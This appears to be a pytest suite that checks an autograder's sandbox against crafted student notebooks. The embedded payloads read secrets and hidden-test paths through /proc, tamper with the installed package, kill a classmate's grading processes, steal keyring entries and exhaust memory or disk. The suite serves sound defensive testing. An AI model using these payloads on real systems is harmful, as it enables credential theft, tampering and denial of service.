"""The grading attacks of issue 15: each a real grading run of a crafted student notebook.

The first four need the kernel's sandbox (Landlock): they are skipped, with
the reason, on a kernel without it, and fail where it has it and the grading
child does not apply it. Where an attack works without the sandbox, the test
first shows that (``--sandbox off``), so it cannot pass for a wrong reason.
The others are the Python-side findings of the same round, on any system.
"""

import json
import os
import signal
import subprocess
import sys
import sysconfig
import time
from pathlib import Path

import pytest
from kernel_objects import Keyring, SystemV
from process_checks import assert_gone_soon, process_alive
from sandbox_runs import needs_socket_filter
from session_processes import runner_servers, sessions
from submission_class import ADD, ADD_STUB, WORDS, WORDS_STUB, SHOUT_STUB, cell, read_csv

import reasoneval_mini.executor
import reasoneval_mini.sandbox.seccomp as seccomp
from reasoneval_mini import cli
from reasoneval_mini.grading.process import WORKDIR_LIMIT_MB
from reasoneval_mini.runner import session as runner_session
from reasoneval_mini.runner.reaping import process_stat
from reasoneval_mini.sandbox.landlock import abi_version
from test_torture_class import argv, grade, rows, statuses, student

pytestmark = pytest.mark.slow  # attacks on the grader, each a real sandboxed class

ROOT = Path(__file__).resolve().parents[2]
ABI = abi_version()
LINUX = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc is Linux only")


def needs_landlock(abi, feature):
    if not sys.platform.startswith("linux"):
        return pytest.mark.skip(reason="Landlock is Linux-only")
    return pytest.mark.skipif(ABI < abi, reason=f"{feature} needs Landlock ABI {abi}; "
                                                f"this kernel has {ABI}")


def grader_process(root, out, *extra, timeout="2", env=None):
    """The grader as its own process, so that a test can watch or kill its children."""
    return subprocess.Popen([sys.executable, "-m", "reasoneval_mini",
                             *argv(root, out, *extra, timeout=timeout)],
                            env=dict(env or os.environ, PYTHONPATH=str(ROOT)),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def wait_for(predicate, seconds=30.0):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        found = predicate()
        if found:
            return found
        time.sleep(0.02)
    raise AssertionError("gave up waiting")


# -- the kernel's sandbox ------------------------------------------------------------------

COPY_MASTER = """\
import json
for _cell in json.load(open({master!r}, encoding="utf-8"))["cells"]:
    if _cell["cell_type"] == "code":
        try:
            exec("".join(_cell["source"]), globals())
        except Exception:
            pass
"""


@needs_landlock(1, "file rules")
def test_a_student_cell_cannot_copy_the_masters_from_solutions(tmp_path):
    folder = tmp_path / "subs" / "mal"
    folder.mkdir(parents=True)
    for stub in sorted((ROOT / "exercises").glob("*.ipynb")):
        data = json.loads(stub.read_text(encoding="utf-8"))
        data["cells"].append(cell("code", COPY_MASTER.format(master=str(ROOT / "solutions" / stub.name))))
        (folder / stub.name).write_text(json.dumps(data), encoding="utf-8")

    def scored(*extra):
        out = tmp_path / "-".join(extra or ("auto",))
        assert cli.main(["grade", str(tmp_path / "subs"), "--out", str(out / "grades.csv"),
                         "--timeout", "10", "--no-progress", *extra]) == 0
        return [row for row in read_csv(out / "grades.csv")[1:] if row[4] == "passed"]

    assert scored("--sandbox", "off"), "without the sandbox the masters are copied"
    assert scored() == []


SNOOP = """\
def shout(text):
    import os
    found = []
    try:
        pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    except OSError as error:
        return f"no /proc: {type(error).__name__}"
    for pid in pids:
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as stream:
                    data = stream.read().decode("utf-8", "replace")
            except OSError:
                continue
            if "sk-secret-" in data:
                found.append(data[data.index("sk-secret-"):][:20])
            if "--hidden-tests" in data:
                args = data.split("\\0")
                try:
                    with open(args[args.index("--hidden-tests") + 1]) as stream:
                        found.append(stream.read()[:120])
                except OSError:
                    pass
    return " | ".join(found) or text.upper()
"""
HIDDEN = """\
# HIDDEN-MARKER-15 the instructor's secret file
from reasoneval_mini.exercises.checks import case

HIDDEN_CHECKS = {"add": [case("add_numbers(4000, 2)", lambda f: f(4000, 2), 4002)]}
"""


@needs_landlock(1, "Landlock's ptrace rule")
def test_a_student_cannot_read_the_graders_environment_or_command_line_through_proc(tmp_path):
    hidden = tmp_path / "hidden_checks.py"
    hidden.write_text(HIDDEN, encoding="utf-8")
    student(tmp_path / "subs", "eve", words=(WORDS, SNOOP))
    env = dict(os.environ, INSTRUCTOR_API_KEY="sk-secret-15")

    def outputs(*extra):
        out = tmp_path / "-".join(extra or ("auto",))
        grader = grader_process(tmp_path / "subs", out, "--hidden-tests", str(hidden), *extra,
                                env=env)
        assert grader.wait(timeout=60) == 0, grader.stderr.read()
        return (out / "grades.csv").read_text() + (out / "feedback" / "eve.md").read_text()

    leaked = outputs("--sandbox", "off")
    assert "sk-secret-15" in leaked and "HIDDEN-MARKER-15" in leaked, "the attack works unsandboxed"
    text = outputs()
    for secret in ("sk-secret-15", "HIDDEN-MARKER-15", "4000", "4002"):
        assert secret not in text


def test_a_student_cell_cannot_append_code_to_the_installed_package(tmp_path):
    if ABI < 1:
        pytest.skip(f"file rules need Landlock ABI 1; this kernel has {ABI}")
    package_file = Path(reasoneval_mini.executor.__file__)
    before = package_file.read_bytes()
    pth = Path(sysconfig.get_paths()["purelib"]) / "reasoneval_student_attack.pth"
    attack = (f"for path, text in (({str(package_file)!r}, '\\n# appended by a student\\n'),\n"
              f"                   ({str(pth)!r}, 'import os\\n')):\n"
              "    try:\n        open(path, 'a').write(text)\n    except OSError:\n        pass\n")
    student(tmp_path / "subs", "mal", add=(attack, ADD_STUB), words=(WORDS_STUB, SHOUT_STUB))
    try:
        assert grade(tmp_path / "subs", tmp_path) == 0
        assert package_file.read_bytes() == before
        assert not pth.exists()
        assert set(statuses(tmp_path, "mal").values()) == {"failed"}
    finally:  # never leave a grader that later runs changed
        if package_file.read_bytes() != before:
            package_file.write_bytes(before)
        pth.unlink(missing_ok=True)


ATTACKER = """\
import os, signal, time
open("i-am-the-attacker", "w").close()
while not os.path.exists("targets"):
    time.sleep(0.01)
OUTCOMES = []
for pid in open("targets").read().split():
    try:
        os.kill(int(pid), signal.SIGKILL)
        OUTCOMES.append("killed")
    except OSError as error:
        OUTCOMES.append(type(error).__name__)
"""


@needs_landlock(6, "signal scoping")
def test_a_student_cannot_sigkill_a_classmates_grading_process(tmp_path):
    student(tmp_path / "subs", "mal", add=(ATTACKER, ADD))
    # The classmate's first cell waits, so that its processes are there to attack.
    student(tmp_path / "subs", "zoe", add=("import time\ntime.sleep(4)\n", ADD))
    grader = grader_process(tmp_path / "subs", tmp_path, "--workers", "2", timeout="20")
    try:
        def both():
            # The child's folder is its own file system (capped in size):
            # seen from here through its /proc/<pid>/cwd only.
            running = sessions(grader.pid)
            attacker = [child for child in running
                        if os.path.exists(f"/proc/{child}/cwd/i-am-the-attacker")]
            if not attacker or len(running) != 2:
                return None
            (classmate,) = [child for child in running if child != attacker[0]]
            # The classmate's child, all below it, and the server that forked it (if one did).
            server = process_stat(classmate)[1]
            victims = running[classmate] + ([server] if server in runner_servers(grader.pid) else [])
            return Path(f"/proc/{attacker[0]}/cwd"), victims

        attacker, victims = wait_for(both)
        Path(attacker, "targets.part").write_text(" ".join(map(str, victims)))
        os.rename(Path(attacker, "targets.part"), Path(attacker, "targets"))
        time.sleep(0.5)  # the classmate's first cell sleeps on: its processes must be there
        assert all(map(process_alive, victims)), "the classmate's grading process was killed"
        assert grader.wait(timeout=60) == 0, grader.stderr.read()
    finally:
        grader.kill()
    assert set(statuses(tmp_path, "zoe").values()) == {"passed"}


@needs_landlock(4, "TCP rules")
def test_a_student_cell_cannot_connect_to_a_local_port(tmp_path):
    import socket

    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        port = listener.getsockname()[1]
        leak = ("import socket\n"
                "try:\n"
                f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'x')\n"
                "except OSError:\n    pass\n")
        student(tmp_path / "subs", "eve", add=(leak, ADD))
        assert grade(tmp_path / "subs", tmp_path) == 0
        listener.settimeout(0.2)
        with pytest.raises(socket.timeout):
            listener.accept()
    assert statuses(tmp_path, "eve")["add"] == "passed"


LIMITER = """\
import os, resource
try:  # the runner server, outside the sandbox: three descriptors would break its sessions
    resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3))
    limited = True
except PermissionError:
    limited = False
"""
ADD_IF_NOT_LIMITED = "def add_numbers(a, b):\n    return 0 if limited else a + b\n"


@needs_landlock(1, "file rules")
@pytest.mark.skipif(not seccomp.supported(), reason="the seccomp filter is known for x86_64 and aarch64 Linux")
def test_a_student_cell_cannot_change_the_limits_of_a_process_outside_its_sandbox(tmp_path):
    # Landlock scopes signals, not limits: prlimit on any process of the same
    # user (a classmate's grading, the grader itself) went through.
    student(tmp_path / "subs", "eve", add=(LIMITER, ADD_IF_NOT_LIMITED))
    assert grade(tmp_path / "subs", tmp_path) == 0
    assert statuses(tmp_path, "eve")["add"] == "passed"


SETSID_LEFTOVER = """\
import os, time
if os.fork() == 0:
    try:
        os.setsid()  # refused where the sandbox filters system calls: it stays a leftover
    except PermissionError:
        pass
    time.sleep(60)
    os._exit(0)
time.sleep(1)  # long enough for the test to see the leftover
"""


@LINUX
def test_a_setsid_leftover_of_a_sandboxed_student_does_not_outlive_grading(tmp_path):
    student(tmp_path / "subs", "ann", add=(SETSID_LEFTOVER, ADD))
    grader = grader_process(tmp_path / "subs", tmp_path, timeout="10")
    seen, servers = set(), set()
    try:
        while grader.poll() is None:
            for pids in sessions(grader.pid).values():
                seen.update(pids)
            servers.update(runner_servers(grader.pid))
            time.sleep(0.02)
    finally:
        grader.kill()
    assert grader.returncode == 0, grader.stderr.read()
    assert len(seen) >= 2, seen  # the session's child and the leftover
    for pid in seen | servers:
        assert_gone_soon(pid)
    assert statuses(tmp_path, "ann")["add"] == "passed"


# -- a grading process killed from outside ---------------------------------------------------

SLOW_START = "import time\ntime.sleep(3)\n"


def _kill_grading_runs(grader, times):
    """SIGKILL the student's session (its child and all below it) *times* times, each a new one."""
    killed = set()
    for _ in range(times):
        child, pids = wait_for(lambda: next(((c, p) for c, p in sessions(grader.pid).items()
                                             if c not in killed), None))
        killed.add(child)
        for pid in pids:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass


@LINUX
def test_a_grading_process_killed_from_outside_once_is_graded_again_in_full(tmp_path):
    student(tmp_path / "subs", "ann", add=(SLOW_START, ADD))
    grader = grader_process(tmp_path / "subs", tmp_path, timeout="10")
    try:
        _kill_grading_runs(grader, 1)
        assert grader.wait(timeout=60) == 0, grader.stderr.read()
    finally:
        grader.kill()
    assert set(statuses(tmp_path, "ann").values()) == {"passed"}


@LINUX
def test_a_student_killed_from_outside_twice_is_not_graded_and_not_exported(tmp_path):
    student(tmp_path / "subs", "ann", add=(SLOW_START, ADD))
    student(tmp_path / "subs", "bob")
    roster = tmp_path / "roster.csv"
    roster.write_text("folder,name,id,sis_user_id,sis_login_id,section,email\n"
                      "ann,Ann,1,S1,ann,A,ann@example.org\nbob,Bob,2,S2,bob,A,bob@example.org\n")
    export = tmp_path / "canvas.csv"
    grader = grader_process(tmp_path / "subs", tmp_path, "--workers", "1", "--roster",
                            str(roster), "--export", "canvas", "--export-out", str(export),
                            timeout="10")
    try:
        _kill_grading_runs(grader, 2)
        assert grader.wait(timeout=60) == 1
        stderr = grader.stderr.read()
    finally:
        grader.kill()
    got = rows(tmp_path)
    assert {got["ann", e][0] for e in ("add", "count_words", "shout")} == {"interrupted"}
    assert got["ann", "add"][1].startswith("not graded: its grading process was killed from "
                                           "outside 2 times")
    assert set(statuses(tmp_path, "bob").values()) == {"passed"}
    assert "not graded" in stderr and "ann" in stderr
    exported = export.read_text()
    assert "Bob" in exported and "Ann" not in exported  # left out, never zeroed


# -- decoding a student's value ----------------------------------------------------------------

FORGED_FRACTION = """\
import sys
def add_numbers(a, b):
    frame = sys._getframe(1)
    while frame is not None:  # the child's call loop: its request, its module's emit
        emit, request = frame.f_globals.get("emit"), frame.f_locals.get("request")
        if callable(emit) and isinstance(request, dict):
            import random  # random halves: reducing them takes seconds (quadratic gcd)
            bits = random.Random(15).getrandbits
            huge = {"returned": {"q": [hex(bits(2_000_000)), hex(bits(2_000_000))]}}
            emit({"event": "reply", "seq": request["seq"], "outcomes": [huge]})
            break
        frame = frame.f_back
    return a + b
"""


def test_a_huge_exact_fraction_neither_stalls_grading_nor_costs_a_classmate(tmp_path):
    student(tmp_path / "subs", "mal", add=(FORGED_FRACTION,))
    # The classmate's cells take a while, so that the forged value arrives mid-way.
    student(tmp_path / "subs", "ann", add=("import time\ntime.sleep(0.8)\n",) * 4 + (ADD,))
    assert grade(tmp_path / "subs", tmp_path, "--workers", "2", timeout="1") == 0
    assert set(statuses(tmp_path, "ann").values()) == {"passed"}
    status, message = rows(tmp_path)["mal", "add"]
    assert status == "failed" and "over 65536 bits" in message


NOISE = """\
import sys
frame = sys._getframe(0)
while not callable(frame.f_globals.get("emit")):  # up to the child's own code
    frame = frame.f_back
SENT = 0
for _ in range(60):
    frame.f_globals["emit"]({"event": "noise", "pad": "x" * 3_900_000})
    SENT += 1
"""
ADD_IF_NOISY = "def add_numbers(a, b):\n    return a + b if SENT == 60 else 0\n"


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="VmHWM is Linux's")
def test_sixty_large_events_do_not_grow_the_grader(tmp_path):
    student(tmp_path / "subs", "mal", add=(NOISE, ADD_IF_NOISY))  # passed: all 60 were sent
    # VmHWM, the peak of this process's own memory since its exec: ru_maxrss
    # would also hold the peak of the process that started it (Linux keeps it
    # across exec), so a long pytest run made the grader look 370 MB large.
    script = ("import sys\nfrom reasoneval_mini import cli\n"
              f"code = cli.main({argv(tmp_path / 'subs', tmp_path, timeout='10')!r})\n"
              "peak = [line.split()[1] for line in open('/proc/self/status')\n"
              "        if line.startswith('VmHWM:')][0]\n"
              "print(code, peak)\n")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                          timeout=120, env=dict(os.environ, PYTHONPATH=str(ROOT)))
    code, peak_kib = done.stdout.split()[-2:]
    assert code == "0", done.stderr
    assert statuses(tmp_path, "mal")["add"] == "passed"
    assert int(peak_kib) < 200 * 1024, f"the grader peaked at {int(peak_kib) // 1024} MB"


# -- correct answers keep their points -------------------------------------------------------

CONTAINER_REGISTRY = '''\
from reasoneval_mini.exercises.checks import Exercise, case
from reasoneval_mini.exercises.registry import _run_one

EXERCISES = {
    "pair": Exercise("pair", "ex01_add.ipynb", "pair", 3, "Pair", "A pair.", "pairs", "",
                     (case("pair()", lambda f: f(), (1, 2.5)),)),
    "tally": Exercise("tally", "ex01_add.ipynb", "tally", 3, "Tally", "Count letters.", "tallies",
                      "", (case("tally('aab')", lambda f: f("aab"), {"a": 2, "b": 1}),)),
    "scores": Exercise("scores", "ex01_add.ipynb", "scores", 3, "Scores", "Two scores.", "lists",
                       "", (case("scores()", lambda f: f(), [1, 2.0]),)),
}


def run_checks(exercise_id, answer, extra_checks=(), **variant_options):
    return [_run_one(check, answer) for check in EXERCISES[exercise_id].checks + tuple(extra_checks)]
'''
CONTAINER_ANSWERS = """\
from collections import defaultdict, namedtuple
import numpy as np

Summary = namedtuple("Summary", "count mean")

def pair():
    return Summary(np.int64(1), np.float64(2.5))

def tally(text):
    counts = defaultdict(int)
    for letter in text:
        counts[letter] += 1
    return counts

def scores():
    return [np.int64(1), np.float64(2.0)]
"""


def test_numpy_scalars_in_containers_and_container_subclasses_keep_their_points(tmp_path):
    pytest.importorskip("numpy")
    registry = tmp_path / "container_registry.py"
    registry.write_text(CONTAINER_REGISTRY, encoding="utf-8")
    # Independent path: the answers pass the registry's checks in this process.
    namespace, checks = {}, {}
    exec(CONTAINER_ANSWERS, namespace)
    exec(compile(CONTAINER_REGISTRY, str(registry), "exec"), checks)
    for exercise_id, exercise in checks["EXERCISES"].items():
        results = checks["run_checks"](exercise_id, namespace[exercise.answer_name])
        assert all(result.passed for result in results), exercise_id
    student(tmp_path / "subs", "ann", add=(CONTAINER_ANSWERS,), words=None)
    assert cli.main(["grade", str(tmp_path / "subs"), "--out", str(tmp_path / "grades.csv"),
                     "--registry", str(registry), "--no-progress"]) == 0
    assert statuses(tmp_path, "ann") == {"pair": "passed", "tally": "passed", "scores": "passed"}


def test_time_and_capture_cells_and_a_top_level_await_run_as_under_jupyter(tmp_path):
    awaited = ("import asyncio\n"
               "SUFFIX = await asyncio.sleep(0, result='')\n"
               "def shout(text):\n    return text.upper() + SUFFIX\n")
    student(tmp_path / "subs", "ann", add=("%%time\n" + ADD,),
            words=("%%capture captured\nprint('hidden')\n" + WORDS, awaited))
    assert grade(tmp_path / "subs", tmp_path) == 0
    assert statuses(tmp_path, "ann") == {"add": "passed", "count_words": "passed",
                                         "shout": "passed"}


def test_a_time_line_magic_runs_its_statement(tmp_path):
    student(tmp_path / "subs", "ann", add=("%time add_numbers = lambda a, b: a + b\n",))
    assert grade(tmp_path / "subs", tmp_path) == 0
    assert statuses(tmp_path, "ann")["add"] == "passed"


# -- the review round's attacks (the grading child's own seccomp filter, the keyring) -------

@needs_socket_filter()
def test_a_student_cell_cannot_send_a_udp_datagram_or_reach_a_unix_socket_file(tmp_path):
    # The filter was built only after Landlock had closed /proc/self/status,
    # where it looks whether seccomp exists: the grading child never installed it.
    import socket

    path = str(tmp_path / "daemon.sock")  # stands for a session bus or a Docker daemon
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver, \
            socket.socket(socket.AF_UNIX) as listener:
        receiver.bind(("127.0.0.1", 0))
        listener.bind(path)
        listener.listen(1)
        port = receiver.getsockname()[1]
        leak = ("import socket\n"
                "try:\n"
                "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(\n"
                f"        b'answers', ('127.0.0.1', {port}))\n"
                "except OSError:\n    pass\n"
                "try:\n"
                f"    socket.socket(socket.AF_UNIX).connect({path!r})\n"
                "except OSError:\n    pass\n")
        student(tmp_path / "subs", "eve", add=(leak, ADD))
        assert grade(tmp_path / "subs", tmp_path) == 0
        receiver.settimeout(0.2)
        listener.settimeout(0.2)
        with pytest.raises(socket.timeout):
            receiver.recvfrom(10)  # nothing arrived
        with pytest.raises(socket.timeout):
            listener.accept()  # nobody connected
    assert statuses(tmp_path, "eve")["add"] == "passed"


KEYRING_THIEF = """\
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_key = _libc.syscall({keyctl}, 10, -4, b"user", b"instructor-token", 0)
_buffer = ctypes.create_string_buffer(100)
STOLEN = _buffer.raw[:max(0, _libc.syscall({keyctl}, 11, _key, _buffer, 100))] if _key > 0 else b""
_libc.syscall({add_key}, b"user", b"planted-by-a-student", b"x", 1, -4)

def shout(text):
    return STOLEN.decode() or text.upper()
"""


@needs_socket_filter()
def test_a_student_cannot_read_the_instructors_keyring_or_plant_a_key_in_it(tmp_path):
    keyring = Keyring()
    secret = keyring.add(b"instructor-token", b"sk-secret-KEYRING")
    try:
        thief = KEYRING_THIEF.format(keyctl=keyring.keyctl, add_key=keyring.add_key)
        student(tmp_path / "subs", "eve", add=(ADD,), words=(WORDS, thief))
        assert grade(tmp_path / "subs", tmp_path) == 0
        planted = keyring.find(b"planted-by-a-student")
        if planted is not None:
            keyring.unlink(planted)
    finally:
        keyring.unlink(secret)
    assert statuses(tmp_path, "eve")["shout"] == "passed", "the student read the instructor's key"
    assert planted is None, "the student planted a key in the instructor's keyring"


SYSTEM_V_HOARD = """\
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_segment = _libc.shmget({key}, 8 << 20, 0o1600)  # IPC_CREAT: 8 MB that outlive the run
if _segment >= 0:
    _address = _libc.shmat(_segment, None, 0)
    ctypes.memset(_address, 1, 8 << 20)
    _libc.shmdt(ctypes.c_void_p(_address))
_libc.msgget({key}, 0o1600)  # a message queue a classmate graded later could read
"""


@needs_socket_filter()
def test_a_student_cannot_leave_system_v_memory_or_a_message_queue_behind(tmp_path):
    # Not files, so not Landlock's: a segment stays after every process is
    # gone (shmmax is unlimited here), and a queue carries answers to a classmate.
    system_v = SystemV()
    key = 0x5E000000 | os.getpid() & 0xFFFFFF
    try:
        student(tmp_path / "subs", "eve", add=(SYSTEM_V_HOARD.format(key=key), ADD))
        assert grade(tmp_path / "subs", tmp_path) == 0
        left = system_v.segment(key), system_v.queue(key)
    finally:
        system_v.remove(key)
    assert left == (None, None)
    assert statuses(tmp_path, "eve")["add"] == "passed"


FILL_THE_FOLDER = """\
import os
open("notes.txt", "w").write("an honest file")
assert open("notes.txt").read() == "an honest file"
WRITTEN = 0
try:
    for number in range(40):  # 640 MB, well past the cap, in files of 16 MB
        with open(f"fill-{{number}}", "wb") as handle:
            for _ in range(16):
                handle.write(b"x" * (1 << 20))
                WRITTEN += 1
except OSError:
    pass

def shout(text):
    return text.upper() if WRITTEN <= {cap} else f"wrote {{WRITTEN}} MB"
"""


def _workdir_cap_works():
    """Whether this kernel lets a process mount its own capped folder (user namespaces may be off)."""
    probe = ("import os, tempfile\n"
             "from reasoneval_mini.runner.workdir import cap_workdir\n"
             "print(cap_workdir(tempfile.mkdtemp(), 1))")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                          env=dict(os.environ, PYTHONPATH=str(ROOT)))
    return done.stdout.strip() == "True"


@pytest.mark.skipif(not sys.platform.startswith("linux") or not _workdir_cap_works(),
                    reason="capping the folder needs Linux with user (or root's) mount namespaces")
def test_a_student_cannot_fill_the_machines_memory_through_the_working_folder(tmp_path):
    # The folder is in /dev/shm (here as large as the machine's memory), where
    # no address-space limit counts what it holds.
    student(tmp_path / "subs", "eve", add=(ADD,),
            words=(WORDS, FILL_THE_FOLDER.format(cap=WORKDIR_LIMIT_MB)))
    assert grade(tmp_path / "subs", tmp_path, timeout="20") == 0
    assert statuses(tmp_path, "eve") == {"add": "passed", "count_words": "passed",
                                         "shout": "passed"}


GROW_A_FILE = """\
import os
try:  # a memfd where the sandbox allows one, else a file in the working folder
    _fd = os.memfd_create("grow")
except OSError:
    _fd = os.open("grow", os.O_RDWR | os.O_CREAT, 0o600)
try:
    os.ftruncate(_fd, 5 << 30)  # past the 4 GiB address-space ceiling (sparse: costs nothing here)
except OSError:
    pass
SIZE = os.fstat(_fd).st_size

def shout(text):
    return text.upper() if SIZE <= {limit} << 20 else f"a file of {{SIZE >> 20}} MiB"
"""


@pytest.mark.skipif(not hasattr(os, "fork"), reason="resource limits are POSIX only")
@pytest.mark.parametrize("sandbox", ["auto", "off"])
def test_a_student_cannot_grow_a_memfd_or_a_file_past_the_grading_processs_file_size_limit(
        tmp_path, sandbox):
    # One memfd grew to 4,352 MiB (real pages), past the 4 GiB ceiling and the
    # 256 MB folder, where the out-of-memory killer cannot find it.
    student(tmp_path / "subs", "eve", add=(ADD,), words=(WORDS, GROW_A_FILE.format(limit=WORKDIR_LIMIT_MB)))
    assert grade(tmp_path / "subs", tmp_path, "--sandbox", sandbox) == 0
    assert statuses(tmp_path, "eve")["shout"] == "passed"


CAPABILITIES = """\
import ctypes

class _Header(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]

class _Data(ctypes.Structure):
    _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32),
                ("inheritable", ctypes.c_uint32)]

_sets = (_Data * 2)()
ctypes.CDLL(None).capget(ctypes.byref(_Header(0x20080522, 0)), _sets)  # _LINUX_CAPABILITY_VERSION_3
HELD = [hex(s.effective | s.permitted) for s in _sets if s.effective | s.permitted]

def shout(text):
    return f"capabilities {HELD}" if HELD else text.upper()
"""


@needs_landlock(1, "file rules")
def test_a_student_keeps_no_capability_in_its_own_namespaces_even_when_the_grader_is_root(tmp_path):
    # The folder cap puts the grading process in a user namespace of its own,
    # where it starts with every capability: the sandbox must drop those too.
    student(tmp_path / "subs", "eve", add=(ADD,), words=(WORDS, CAPABILITIES))
    if os.geteuid() == 0:  # unsandboxed, root's student holds root's powers: the check sees them
        # On a new runner, as `grade --sandbox off` gets: a server that ran a sandboxed
        # session earlier in this process gave up root's powers for all its children.
        runner_session.close_idle()
        assert grade(tmp_path / "subs", tmp_path / "off", "--sandbox", "off") == 0
        assert statuses(tmp_path / "off", "eve")["shout"] == "failed"
    assert grade(tmp_path / "subs", tmp_path) == 0
    assert statuses(tmp_path, "eve")["shout"] == "passed"
